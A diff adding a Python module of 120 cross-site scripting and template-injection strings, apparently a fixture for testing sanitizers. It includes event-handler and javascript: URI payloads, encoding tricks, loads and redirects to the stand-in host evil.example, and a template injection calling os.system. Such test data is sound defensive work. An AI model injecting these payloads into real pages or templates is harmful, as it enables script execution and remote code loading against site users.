@@ -1,0 +1,48 @@
+"""120 strings that would run, open or load something if a page took them for markup."""
+
+from __future__ import annotations
+
+_RUN = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x:x onerror\n=\nalert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<form action=//evil.example><button>x</button></form>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<template><script>alert(1)</script></template>",
+    "{{ 7*7 }}{% import 'os' as os %}{{ os.system('true') }}",
+    "${alert(1)} #{alert(1)} <%= 1 %>",
+    "javascript:alert(1)//",
+    "data:text/html,<script>alert(1)</script>",
+    "\"'`-->]]>*/</textarea></title></style></script><script>alert(1)</script>",
+    "\u2028alert(1)\u2029<img src=x onerror=alert(1)>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
+)
+_BEFORE = ("", '"></mark></p></li></template>', "' autofocus onfocus=alert(1) x='")
+PAYLOADS = tuple(before + text for text in _RUN for before in _BEFORE)
